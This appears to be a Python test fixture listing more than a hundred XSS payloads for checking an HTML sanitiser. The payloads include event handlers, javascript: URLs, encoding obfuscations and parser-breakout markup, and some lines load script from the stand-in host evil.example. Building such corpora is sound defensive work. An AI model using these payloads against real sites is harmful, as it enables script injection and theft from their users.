"""More than a hundred XSS payloads: classic vectors, event handlers on every kind of element,
URL schemes in every URL attribute, obfuscations (case, entities, whitespace, comments), and
markup that tries to break out of the sanitiser's parsing."""

from __future__ import annotations

BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*</script>*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("//evil.example")</script>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<STYLE>@import'//evil.example/x.css';</STYLE>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="https://example.org" onmouseover="alert(1)">x</a>',
    '<a href="https://example.org" target="_blank">x</a>',
    '<p onclick="alert(1)">x</p>',
    '<h2 onmouseover="alert(1)">x</h2>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    '<div onpointerenter="alert(1)">x</div>',
    '<p title="x" onanimationstart="alert(1)">x</p>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<xss onafterscriptexecute="alert(1)"><script>1</script>',
    "<template><script>alert(1)</script></template>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    '<object type="text/x-scriptlet" data="//evil.example"></object>',
    '<applet code="javascript:alert(1)"></applet>',
    "<frameset onload=alert(1)>",
    '<a href="javascript:void(0)" data-x="1">x</a>',
    '<ol start="1" onclick="alert(1)"><li>x</li></ol>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<p lang="ja" onclick="alert(1)">x</p>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',  # noqa: E501
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<math href="javascript:alert(1)">x</math>',
    '<div class="x" id="y" onclick="alert(1)">x</div>',
]
EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onbegin", "onwheel"]
TAGS = ["p", "a", "td", "li", "strong", "table"]


def payloads() -> list[str]:
    generated = [f'<{tag} {event}="alert(1)">x</{tag}>' for tag in TAGS for event in EVENTS]
    corpus = list(dict.fromkeys(BASE + generated))
    assert len(corpus) >= 100
    return corpus


PAYLOADS = payloads()
